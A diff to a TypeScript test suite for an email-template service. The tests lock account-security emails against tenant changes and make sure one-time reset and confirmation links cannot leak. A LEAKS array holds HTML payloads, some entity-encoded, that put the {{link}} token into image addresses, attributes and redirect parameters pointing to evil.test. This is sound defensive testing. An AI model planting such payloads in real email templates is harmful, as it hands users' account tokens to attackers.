@@ -31,6 +31,15 @@ const queue = (to: string, name = "Ann", agencyId = platen.world.agencyId) =>
       },
     ),
   );
+/** A template from before templates were checked. Returns its id. */
+const stored = async (code: string, html: string): Promise<string> => {
+  const { rows } = await platen.database.pool.query(
+    `insert into mail_notifications (agency_id, id, code, name, subject, html)
+      values ($1, gen_random_uuid(), $2, 'Stored', 'Ours', $3) returning id`,
+    [platen.world.agencyId, code, html],
+  );
+  return rows[0].id;
+};
 const history = async (client = agency) => (await client.get("email-history")).body.data;
 
 describe("a template", () => {
@@ -89,7 +98,7 @@ describe("a template", () => {
     const write = (code: string, html: string) =>
       agency.post("mail-notifications", { code, name: "Mine", subject: "S", html });
     const message = "The body must contain {{link}}; the email does not work without it";
-    for (const code of ["reset-password", "confirm-account", "invitation"])
+    for (const code of ["reset-password", "confirm-account"])
       expect((await write(code, "<p>Hello {{name}}</p>")).body.errors).toEqual({ html: message });
     // The sanitizer removes the link with the script.
     expect((await write("reset-password", "<script>{{link}}</script><p>x</p>")).status).toBe(400);
@@ -105,11 +114,7 @@ describe("a template", () => {
 
   test("that was stored without its link is sent with the default text", async () => {
     const { agencyId } = platen.world;
-    await platen.database.pool.query(
-      `insert into mail_notifications (agency_id, id, code, name, subject, html)
-        values ($1, gen_random_uuid(), 'reset-password', 'R', 'Ours', '<p>Hello {{name}}</p>')`,
-      [agencyId],
-    );
+    await stored("reset-password", "<p>Hello {{name}}</p>");
     await inTransaction(platen.database, (tx) =>
       queueMail(
         tx,
@@ -120,6 +125,105 @@ describe("a template", () => {
     const [mail] = await history();
     const { html } = (await agency.get(`email-history/${mail.id}`)).body;
     expect(html).toContain("Choose a new password");
+  });
+
+  test("of account security is neither added nor changed, and a stored one is not sent", async () => {
+    const { agencyId } = platen.world;
+    const errors = { code: "This email is part of account security and cannot be changed" };
+    for (const code of [
+      "invitation",
+      "sign-in-attempts",
+      "security-notice",
+      "security-alert",
+      "test-message",
+    ]) {
+      const body = { code, name: "Mine", subject: "S", html: '<a href="{{link}}">{{what}} {{detail}}</a>' };
+      const added = await agency.post("mail-notifications", body);
+      expect([added.status, added.body.errors]).toEqual([400, errors]);
+    }
+    const id = await stored("invitation", '<p>Ours</p><a href="{{link}}">x</a>');
+    for (const change of [{ subject: "Yours" }, { html: '<a href="{{link}}">y</a>' }])
+      expect((await agency.patch(`mail-notifications/${id}`, change)).body.errors).toEqual(errors);
+    const text = { subject: "S", html: '<a href="{{link}}">y</a>' };
+    expect((await agency.post(`mail-notifications/${id}/preview`, text)).status).toBe(404);
+    await inTransaction(platen.database, (tx) =>
+      queueMail(
+        tx,
+        { reach: "agency", agencyId },
+        {
+          template: "invitation",
+          to: "ann@shop.test",
+          values: { name: "Ann", link: "/cms/auth/invitation" },
+        },
+      ),
+    );
+    const [mail] = await history();
+    expect(mail.subject).toMatch(/^Your account at /);
+    expect((await agency.get(`email-history/${mail.id}`)).body.html).toContain("Choose a password to begin");
+    expect((await agency.delete(`mail-notifications/${id}`)).status).toBe(200);
+  });
+
+  const GOOD =
+    '<p>{{link}}</p><p><a href="{{link}}" title="Reset">Reset</a> or <a href="{{ link }}">{{link}}</a></p>';
+  const LEAKS = [
+    '<img src="https://evil.test/?{{link}}">',
+    '<img src="https://evil.test/?&#123;&#123;link}}">',
+    '<img src="https://evil.test/a.png" alt="{{link}}">',
+    '<a href="https://evil.test/?to={{link}}">x</a>',
+    '<a href="{{link}}{{link}}">x</a>',
+    '<a href="{{link}}&next=https://evil.test">x</a>',
+    '<a href="https://evil.test/" title="{{ link }}">x</a>',
+  ];
+
+  test("with a one-time link has it as the whole address of a link or as text, and nowhere else", async () => {
+    const message =
+      "{{link}} works once. It may be the whole address of a link, or text, but no part of another address, of an image or of another attribute";
+    for (const code of ["reset-password", "confirm-account"]) {
+      const template = { code, name: "Mine", subject: "S" };
+      for (const leak of LEAKS) {
+        const refused = await agency.post("mail-notifications", { ...template, html: GOOD + leak });
+        expect([leak, refused.status, refused.body.errors]).toEqual([leak, 400, { html: message }]);
+      }
+      const added = await agency.post("mail-notifications", { ...template, html: GOOD });
+      expect(added.status, added.text).toBe(201);
+      const edited = await agency.patch(`mail-notifications/${added.body.id}`, { html: GOOD + LEAKS[0] });
+      expect(edited.body.errors).toEqual({ html: message });
+    }
+    // The link of this one opens a screen for who is signed in, and nothing for others.
+    const invoice = { code: "invoice", name: "Invoice", subject: "S", html: LEAKS[3] };
+    expect((await agency.post("mail-notifications", invoice)).status).toBe(201);
+  });
+
+  test("that was stored with its one-time link elsewhere is sent with the default text", async () => {
+    const { agencyId } = platen.world;
+    const sent = async (html: string) => {
+      await platen.database.pool.query("delete from mail_notifications");
+      await platen.database.pool.query("delete from email_history");
+      await stored("reset-password", html);
+      await inTransaction(platen.database, (tx) =>
+        queueMail(
+          tx,
+          { reach: "agency", agencyId },
+          {
+            template: "reset-password",
+            to: "ann@shop.test",
+            values: { name: "Ann", link: "/cms/auth/reset" },
+          },
+        ),
+      );
+      const [mail] = await history();
+      return { subject: mail.subject, html: (await agency.get(`email-history/${mail.id}`)).body.html };
+    };
+    for (const leak of LEAKS) {
+      const { subject, html } = await sent(GOOD + leak);
+      expect(subject).toMatch(/^Reset your password at /);
+      expect(html).toContain("Choose a new password");
+      expect(html).not.toContain("evil.test");
+    }
+    expect(await sent(GOOD)).toMatchObject({
+      subject: "Ours",
+      html: expect.stringContaining(">Reset</a> or"),
+    });
   });
 
   test("is saved and sent without scripts or remote content, even if its stored text was never sanitized", async () => {
